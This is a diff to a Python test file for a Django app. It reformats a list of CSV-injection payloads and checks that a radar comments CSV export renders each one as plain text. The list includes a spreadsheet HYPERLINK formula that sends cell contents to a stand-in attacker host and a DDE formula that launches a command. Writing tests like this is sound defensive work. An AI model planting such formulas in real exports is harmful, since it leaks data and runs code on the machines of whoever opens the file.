@@ -13,8 +13,14 @@ from tests.factories import InitiativeFactory, UserFactory
 from tests.radar.answers import answers_all, questions_of
 
 pytestmark = pytest.mark.django_db
-HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1;"Cliquez")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
-           "\t=1+1", "＝1+1"]  # fmt: skip
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?d="&A1;"Cliquez")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "＝1+1",
+]
 
 
 def rows(response) -> list[list[str]]:
@@ -39,8 +45,9 @@ def test_a_radars_comments_export_as_text(client, radar_grid):
     answers = answers_all(radar_grid, 2)
     for question, comment in zip(questions_of(radar_grid), HOSTILE, strict=False):
         answers[question.pk] = (2, comment)
-    services.assessment_fill(initiative=initiative, grid=radar_grid, answers=answers, by=member,
-                             filled_on=date(2026, 5, 4))  # fmt: skip
+    services.assessment_fill(
+        initiative=initiative, grid=radar_grid, answers=answers, by=member, filled_on=date(2026, 5, 4)
+    )
     client.force_login(member)
     comments = [row[-1] for row in rows(client.get("/radar/ressourcerie/export.csv"))[1:]]
     # Each as text (the form's cleaning took the tab off the fifth: "=1+1" is a formula all the same).
